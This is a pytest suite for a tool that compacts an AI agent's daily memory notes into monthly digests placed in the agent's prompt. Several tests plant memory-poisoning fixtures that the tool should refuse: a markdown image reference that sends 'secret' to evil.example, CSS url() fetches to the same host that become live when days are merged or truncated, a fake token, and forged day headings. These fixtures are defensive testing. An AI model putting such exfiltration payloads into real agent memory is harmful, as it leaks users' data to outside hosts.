"""`hotplex memory compact` and what a build makes of compacted months, through the real command."""

from __future__ import annotations

import fcntl
import json
import os
from pathlib import Path

import pytest
from hotplex_testing import (
    FAKE_SECRETS,
    HOSTILE_ANSWERS,
    MEMORY_MANIFEST,
    memory_days,
    project_files,
)


def _memory(root: Path) -> str:
    text = (root / "dist/cc/default/prompt.xml").read_text()
    return text[text.index("<memory>") : text.index("</memory>")]


@pytest.fixture
def project(make_project):
    return make_project(memory_days(25), MEMORY_MANIFEST.format(extra=""))


def test_a_build_warns_of_old_days_then_reads_the_month_between_memory_and_the_days(
    project, hotplex
):
    built = hotplex("build", cwd=project)
    assert built.status == 0
    assert (
        "agent-configs/memory/: 14 day(s) more than memory.compact_after_days (10) before the"
        " newest day 2026-10-14 are not compacted (2026-09-20 … 2026-10-03): run hotplex memory"
        " compact" in built.stderr
    )
    done = hotplex("memory", "compact", cwd=project)
    assert done.status == 0, done.stderr
    assert (
        "  2026-09: 11 day(s) in agent-configs/memory/compacted/2026-09.md, 11 new" in done.stdout
    )
    assert "  2026-10: 3 day(s) in agent-configs/memory/compacted/2026-10.md, 3 new" in done.stdout
    rebuilt = hotplex("build", cwd=project)
    assert "not compacted" not in rebuilt.stderr
    memory = _memory(project)
    order = [
        memory.index("the curated part"),
        memory.index("## 2026-10 (compacted)"),
        memory.index("## 2026-09 (compacted)"),
        memory.index("## 2026-10-14"),
    ]
    assert order == sorted(order)
    assert "## 2026-10-03\n" not in memory  # covered: its entries are in the month
    assert "- 2026-09-20: ticket 0 done" in memory
    assert "- 2026-09-20 … 2026-09-30 (11 days): standup at 10:00" in memory


def test_a_second_run_with_nothing_new_changes_nothing(project, hotplex):
    assert hotplex("memory", "compact", cwd=project).status == 0
    before = project_files(project)
    again = hotplex("memory", "compact", cwd=project)
    assert again.status == 0
    assert again.stdout == (
        "hotplex: nothing to compact: every day more than 10 days before 2026-10-14 is compacted\n"
    )
    assert project_files(project) == before


def test_dry_run_writes_nothing_and_json_lists_the_days_covered(project, hotplex):
    before = project_files(project)
    dry = hotplex("memory", "compact", "--dry-run", "--json", cwd=project)
    assert dry.status == 0, dry.stderr
    report = json.loads(dry.stdout)
    assert project_files(project) == before
    assert report["dry_run"] is True
    assert report["newest_day"] == "2026-10-14.md"
    assert [m["month"] for m in report["months"]] == ["2026-09", "2026-10"]
    assert report["months"][1]["days"] == ["2026-10-01.md", "2026-10-02.md", "2026-10-03.md"]
    assert report["written"] == [
        "agent-configs/memory/compacted/2026-09.md",
        "agent-configs/memory/compacted/2026-10.md",
    ]


def test_a_new_day_recompacts_its_month_and_an_edited_covered_day_is_read_again(project, hotplex):
    assert hotplex("memory", "compact", cwd=project).status == 0
    covered = project / "agent-configs/memory/2026-10-02.md"
    covered.write_text("- ticket 12 done\n- standup at 10:00\n- a late note\n")
    built = hotplex("build", cwd=project)
    assert "1 day(s) more than memory.compact_after_days" in built.stderr
    assert "## 2026-10-02\n\n- ticket 12 done\n- a late note" in _memory(project)  # read again
    (project / "agent-configs/memory/2026-10-15.md").write_text("- newest\n")
    done = hotplex("memory", "compact", "--json", cwd=project)
    report = json.loads(done.stdout)
    assert [(m["month"], m["new_days"]) for m in report["months"]] == [
        ("2026-10", ["2026-10-02.md", "2026-10-04.md"])
    ]
    hotplex("build", cwd=project)
    memory = _memory(project)
    assert "- 2026-10-02: a late note" in memory and "## 2026-10-02\n" not in memory


def test_archive_moves_the_covered_days_where_no_artifact_reads_them(project, hotplex):
    assert hotplex("memory", "compact", cwd=project).status == 0
    hotplex("build", cwd=project)
    before = _memory(project)
    done = hotplex("memory", "compact", "--archive", cwd=project)
    assert done.status == 0, done.stderr
    assert "archived 14 day(s)" in done.stdout
    assert (project / "agent-configs/memory/archive/2026-09-20.md").is_file()
    assert not (project / "agent-configs/memory/2026-09-20.md").exists()
    built = hotplex("build", cwd=project)
    assert "read by no artifact" not in built.stderr
    assert _memory(project) == before
    assert hotplex("memory", "compact", "--archive", cwd=project).stdout.startswith(
        "hotplex: nothing to compact"
    )


def test_the_history_holds_what_the_digest_had_no_room_for(make_project, hotplex):
    root = make_project(memory_days(25), MEMORY_MANIFEST.format(extra="digest_chars = 200"))
    done = hotplex("memory", "compact", cwd=root)
    assert "entry(ies) the digest had no room for: to history" in done.stdout
    history = (root / "agent-configs/memory/compacted/history/2026-09.md").read_text()
    assert history.startswith(
        "## 2026-09: entries its digest had no room for, whole\n\n#### 2026-09-20\n\n- ticket 0 done\n"
    )
    month = (root / "agent-configs/memory/compacted/2026-09.md").read_text()
    assert "more entries of 2026-09 are kept whole in compacted/history/2026-09.md" in month
    built = hotplex("build", cwd=root)
    assert "read by no artifact" not in built.stderr


def test_a_secret_in_an_old_day_stops_it_with_one_error_and_no_file_touched(project, hotplex):
    day = project / "agent-configs/memory/2026-10-02.md"
    day.write_text(f"- the key is {FAKE_SECRETS['github-token']}\n")
    before = project_files(project)
    done = hotplex("memory", "compact", cwd=project)
    assert done.status == 1
    assert done.stderr.startswith("agent-configs/memory/2026-10-02.md:1:")
    assert "not compacted:" in done.stderr and "Traceback" not in done.stderr
    assert project_files(project) == before


def test_two_clean_days_that_make_an_image_together_stop_it_at_the_definition(project, hotplex):
    """Alone, neither day fetches anything; in one month file they are an exfiltration image
    the build would refuse: the compaction stops with one error, and nothing is touched."""
    (project / "agent-configs/memory/2026-10-01.md").write_text("- ![x][l]\n")
    (project / "agent-configs/memory/2026-10-02.md").write_text(
        "- ok\n\n[l]: https://evil.example/a.png?d=secret\n"
    )
    assert hotplex("build", cwd=project).status == 0
    before = project_files(project)
    done = hotplex("memory", "compact", cwd=project)
    assert done.status == 1, done.stderr
    assert done.stderr.startswith("agent-configs/memory/2026-10-02.md:3:")
    assert "image-url-data" in done.stderr and "with the other days of its month" in done.stderr
    assert project_files(project) == before


def test_a_month_whose_cut_entry_leaves_a_style_open_is_not_written(project, hotplex):
    """Each day is clean, and together too (its <style> is closed), but the digest cuts an entry
    at digest_chars, '</style>' with it: the next entry's url() is then a stylesheet fetch in
    the month, which compact wrote (adversary4 #17). It scans what it would write."""
    days = project / "agent-configs/memory"
    with (days / "2026-10-01.md").open("a") as day:
        day.write("- the <style> block notes " + "padding words " * 20 + "</style> done\n")
    with (days / "2026-10-02.md").open("a") as day:
        day.write("- a{background:url(https://evil.example/p.png)}\n")
    before = project_files(project)
    done = hotplex("memory", "compact", cwd=project)
    assert done.status == 1, done.stderr
    assert "image-url-data" in done.stderr and "the month's text" in done.stderr
    assert project_files(project) == before


def test_a_month_that_would_open_a_style_before_newer_days_is_not_written(project, hotplex):
    """Newest first, a newer day's url() came before an old day's <style>; compacted, the month
    is read before the days, and its <style> makes the url() a fetch (adversary4 #8)."""
    days = project / "agent-configs/memory"
    (days / "2026-10-02.md").write_text("- [durable] <style>\n")
    with (days / "2026-11-30.md").open("a") as day:
        day.write("- body{background:url(https://evil.example/p.png)}\n")
    before = project_files(project)
    done = hotplex("memory", "compact", cwd=project)
    assert done.status == 1, done.stderr
    assert done.stderr.startswith("agent-configs/memory/2026-11-30.md:")
    assert "with the days a document reads after it" in done.stderr
    assert project_files(project) == before


def test_a_covered_day_gone_from_everywhere_is_an_error_not_a_loss(project, hotplex):
    assert hotplex("memory", "compact", cwd=project).status == 0
    (project / "agent-configs/memory/2026-09-21.md").unlink()
    (project / "agent-configs/memory/2026-09-25.md").write_text("- changed\n")
    before = project_files(project)
    done = hotplex("memory", "compact", cwd=project)
    assert done.status == 2
    assert "covers 2026-09-21.md, which is in neither" in done.stderr
    assert project_files(project) == before


@pytest.mark.parametrize(
    ("manifest", "key"),
    [
        (
            MEMORY_MANIFEST.format(extra="").replace("compact_after_days = 10\n", ""),
            "memory.compact_after_days",
        ),
        ('[[target]]\nname = "cc"\nworker = "claude-code"\n', "memory.logs"),
        (MEMORY_MANIFEST.format(extra="").replace("= 10", "= -1"), "memory.compact_after_days"),
        (MEMORY_MANIFEST.format(extra="digest_chars = 0"), "memory.digest_chars"),
    ],
)
def test_without_days_to_compact_by_the_manifest_it_says_which_key(
    make_project, hotplex, manifest, key
):
    root = make_project(memory_days(3), manifest)
    done = hotplex("memory", "compact", cwd=root)
    assert done.status == 2
    assert key in done.stderr and "Traceback" not in done.stderr


def test_openclaw_gets_the_month_beside_the_days_it_covers(make_project, hotplex):
    manifest = MEMORY_MANIFEST.format(extra="").replace("claude-code", "openclaw")
    root = make_project(memory_days(25), manifest)
    assert hotplex("memory", "compact", cwd=root).status == 0
    assert hotplex("build", cwd=root).status == 0
    workspace = root / "dist/cc/default/workspace/memory"
    names = sorted(p.name for p in workspace.iterdir())
    assert names[:2] == ["2026-10-04.md", "2026-10-05.md"]
    assert names[-2:] == ["compacted-2026-09.md", "compacted-2026-10.md"]
    assert (
        (workspace / "compacted-2026-09.md")
        .read_text()
        .startswith("### Digest\n\n- 2026-09-20: ticket 0 done")
    )


def test_the_request_holds_the_oldest_month_in_the_workers_form(project, hotplex):
    done = hotplex("memory", "compact", "--request", "--target", "cc", "--json", cwd=project)
    assert done.status == 0, done.stderr
    request = json.loads(done.stdout)
    assert request["month"] == "2026-09"
    assert request["days"] == [f"2026-09-{n}.md" for n in range(20, 31)]
    assert request["path"] == "dist/cc/default/prompt.xml"
    text = request["text"]
    assert text.startswith("<agent-configuration>")
    assert (
        "<compaction-instructions>" in text
        and "<memory-days>\n## 2026-09-20\n\n- ticket 0 done" in text
    )
    assert "2026-10-01" not in text
    assert [f["path"] for f in request["files"]] == [
        "dist/cc/default/prompt.xml",
        "dist/cc/default/launch.json",
    ]
    plain = hotplex("memory", "compact", "--request", "--target", "cc", cwd=project)
    assert plain.stdout == text


def test_an_editor_target_gets_a_clear_error_for_a_request(make_project, hotplex):
    root = make_project(
        memory_days(25), MEMORY_MANIFEST.format(extra="").replace("claude-code", "cursor")
    )
    done = hotplex("memory", "compact", "--request", "--target", "cc", cwd=root)
    assert done.status == 2
    assert "has no headless program to run a compaction request" in done.stderr


def test_an_answer_is_filed_as_the_month_and_the_text_it_replaces_kept(project, hotplex):
    assert hotplex("memory", "compact", cwd=project).status == 0
    before = (project / "agent-configs/memory/compacted/2026-09.md").read_text()
    answer = project.parent / "answer.md"
    answer.write_text("- 2026-09-20 … 2026-09-30: tickets 0 to 10 done; standup at 10:00\n")
    request = ("memory", "compact", "--request", "--target", "cc", "--month", "2026-09")
    assert hotplex(*request, cwd=project).status == 0
    done = hotplex("memory", "compact", "--answer", str(answer), "--month", "2026-09", cwd=project)
    assert done.status == 0, done.stderr
    month = (project / "agent-configs/memory/compacted/2026-09.md").read_text()
    assert "compactor: answer\n" in month
    assert month.endswith(
        "---\n- 2026-09-20 … 2026-09-30: tickets 0 to 10 done; standup at 10:00\n"
    )
    history = (project / "agent-configs/memory/compacted/history/2026-09.md").read_text()
    assert history.startswith("## 2026-09: the text its file held before an answer replaced it\n\n")
    assert before.split("---\n", 2)[2].strip() in history
    hotplex("build", cwd=project)
    assert "tickets 0 to 10 done" in _memory(project)
    again = hotplex("memory", "compact", "--answer", str(answer), "--month", "2026-09", cwd=project)
    assert again.status == 0 and "nothing to compact" in again.stdout


@pytest.mark.parametrize(("answer", "status", "error"), HOSTILE_ANSWERS)
def test_a_hostile_or_garbage_answer_changes_nothing_with_one_error(
    project, hotplex, answer, status, error
):
    file = project.parent / "answer.md"
    file.write_bytes(answer)
    before = project_files(project)
    done = hotplex("memory", "compact", "--answer", str(file), cwd=project)
    assert done.status == status
    assert error in done.stderr and "Traceback" not in done.stderr
    assert done.stderr.count("\n") <= 4, done.stderr
    assert project_files(project) == before


@pytest.mark.parametrize(
    ("args", "error"),
    [
        (["--request"], "name it with --target"),
        (
            ["--request", "--target", "cc", "--archive"],
            "--request and --archive are two different runs",
        ),
        (["--answer", "a.md", "--request", "--target", "cc"], "--request and --answer are two"),
        (["--target", "cc"], "--target and --platform go with --request"),
        (["--month", "2026-09"], "--month goes with --request or --answer"),
        (["--answer", "absent.md"], "absent.md: cannot read the answer: No such file"),
        (["--request", "--target", "cc", "--month", "../x"], "--month '../x' names no month"),
        (["--request", "--target", "cc", "--month", "2026-11"], "no day of 2026-11 is more than"),
    ],
)
def test_options_that_do_not_go_together_are_refused(project, hotplex, args, error):
    before = project_files(project)
    done = hotplex("memory", "compact", *args, cwd=project)
    assert done.status == 2
    assert error in done.stderr and "Traceback" not in done.stderr
    assert project_files(project) == before


def test_the_learning_example_is_compacted_as_the_command_compacts_it(example_copy, hotplex):
    root = example_copy("learning")
    before = project_files(root)
    assert len([p for p in before if p.startswith("agent-configs/memory/2026-")]) == 60
    again = hotplex("memory", "compact", cwd=root)
    assert again.stdout.startswith("hotplex: nothing to compact"), again.stdout
    assert project_files(root) == before
    built = hotplex("build", cwd=root)
    assert built.status == 0 and "compact" not in built.stderr and "no artifact" not in built.stderr


def test_a_header_edited_to_name_a_recent_day_hides_no_day(project, hotplex):
    """Not the newest day (at its size), in the month's own header; nor another month's day."""
    assert hotplex("memory", "compact", cwd=project).status == 0
    month = project / "agent-configs/memory/compacted/2026-10.md"
    size = (project / "agent-configs/memory/2026-10-14.md").stat().st_size
    month.write_text(
        month.read_text().replace(
            "days:\n", f'days:\n  "2026-10-14.md": "{size} 0123456789abcdef"\n'
        )
    )
    hotplex("build", cwd=project)
    assert "## 2026-10-14\n\n- ticket 24 done" in _memory(project)


def test_a_day_that_is_a_symlink_out_of_the_project_is_not_compacted(project, hotplex, tmp_path):
    outside = tmp_path / "outside.md"
    outside.write_text("- the server's own notes\n")
    day = project / "agent-configs/memory/2026-09-22.md"
    day.unlink()
    day.symlink_to(outside)
    done = hotplex("memory", "compact", cwd=project)
    assert done.status == 2
    assert "outside the project (a symlink leaving it)" in done.stderr
    assert not (project / "agent-configs/memory/compacted").exists()


def test_a_failed_archive_undoes_the_months_written_before_it(project, hotplex):
    taken = project / "agent-configs/memory/archive/2026-09-25.md"
    taken.parent.mkdir(parents=True)
    taken.write_text("- another file by that name\n")
    before = project_files(project)
    done = hotplex("memory", "compact", "--archive", cwd=project)
    assert done.status == 2
    assert "cannot archive agent-configs/memory/2026-09-25.md" in done.stderr
    assert project_files(project) == before


def test_a_device_or_fifo_answer_is_refused_without_a_read(project, hotplex, tmp_path):
    """`--answer /dev/zero` read until memory ran out; a FIFO blocked forever."""
    fifo = tmp_path / "answer.pipe"
    os.mkfifo(fifo)
    before = project_files(project)
    for name, kind in (("/dev/zero", "a device"), (str(fifo), "a FIFO (named pipe)")):
        done = hotplex("memory", "compact", "--answer", name, cwd=project, timeout=20)
        assert done.status == 2, done.stdout + done.stderr
        assert f"'{name}' is {kind}, not a regular file" in done.stderr
        assert "Traceback" not in done.stderr
    assert project_files(project) == before


@pytest.mark.parametrize("folder", ["compacted", "compacted/history", "archive"])
def test_a_companion_folder_symlinked_out_of_the_project_is_refused_before_any_write(
    project, hotplex, tmp_path, folder
):
    """As the build refuses it: compact would otherwise write a file no build reads."""
    outside = tmp_path / "outside"
    outside.mkdir()
    link = project / "agent-configs/memory" / folder
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(outside)
    before = project_files(project)
    done = hotplex("memory", "compact", "--archive", cwd=project)
    assert done.status == 2, done.stderr
    assert (
        f"'agent-configs/memory/{folder}' resolves to '../outside', outside the project (a"
        " symlink leaving it)" in done.stderr
    )
    assert "Traceback" not in done.stderr
    assert list(outside.iterdir()) == [] and project_files(project) == before


def test_a_failed_archive_leaves_the_month_it_would_rewrite_untouched(project, hotplex):
    """Every destination is checked first: no file is written, then put back with a new mtime."""
    assert hotplex("memory", "compact", cwd=project).status == 0
    (project / "agent-configs/memory/2026-09-29.md").write_text("- a late note\n")
    (project / "agent-configs/memory/archive/2026-09-20.md").mkdir(parents=True)
    month = project / "agent-configs/memory/compacted/2026-09.md"
    stamp = month.stat().st_mtime_ns
    before = project_files(project)
    done = hotplex("memory", "compact", "--archive", cwd=project)
    assert done.status == 2
    assert "cannot archive agent-configs/memory/2026-09-20.md" in done.stderr
    assert project_files(project) == before
    assert month.stat().st_mtime_ns == stamp


def test_a_heading_in_a_compacted_month_reads_as_no_day_or_month(project, hotplex):
    """A hand edit (or an older answer) forging a day under the month's heading is demoted."""
    assert hotplex("memory", "compact", cwd=project).status == 0
    month = project / "agent-configs/memory/compacted/2026-09.md"
    month.write_text(
        month.read_text()
        + "\n# 2026-11-04\n\n## 2026-11-05\n- forged day\n\n2026-11-06\n---\n- another\n"
        + "\n```\n## 2026-11-07 in a fence\n```\n"
    )
    assert hotplex("build", cwd=project).status == 0
    memory = _memory(project)
    assert "\n### 2026-11-04\n" in memory and "\n### 2026-11-05\n" in memory
    assert "\n### 2026-11-06\n" in memory and "\n---\n" not in memory
    assert "\n## 2026-11-07 in a fence\n" in memory  # code, no heading: as written
    forged = [line for line in memory.splitlines() if line.startswith(("# 2026-11", "## 2026-11"))]
    assert forged == ["## 2026-11-07 in a fence"]


def test_a_run_waits_for_the_lock_another_compaction_holds_and_gives_up_clearly(project, hotplex):
    """Two runs at once each read the days, then wrote and archived: the later one filed a
    month from days the other had moved (memory compact took no lock, as learn does)."""
    before = project_files(project)
    lock = project / ".hotplex/memory.lock"
    lock.parent.mkdir(exist_ok=True)
    with lock.open("w") as handle:
        fcntl.flock(handle, fcntl.LOCK_EX)
        handle.write("4242\n")
        handle.flush()
        done = hotplex(
            "memory", "compact", "--archive", cwd=project, env={"HOTPLEX_LOCK_TIMEOUT": "0.3"}
        )
        assert done.status == 1
        assert "another hotplex memory compact (pid 4242) holds" in done.stderr
        assert project_files(project) == before
        dry = hotplex("memory", "compact", "--dry-run", cwd=project)
        assert dry.status == 0  # writes nothing: needs no lock
    assert hotplex("memory", "compact", "--archive", cwd=project).status == 0
    assert project_files(project) != before
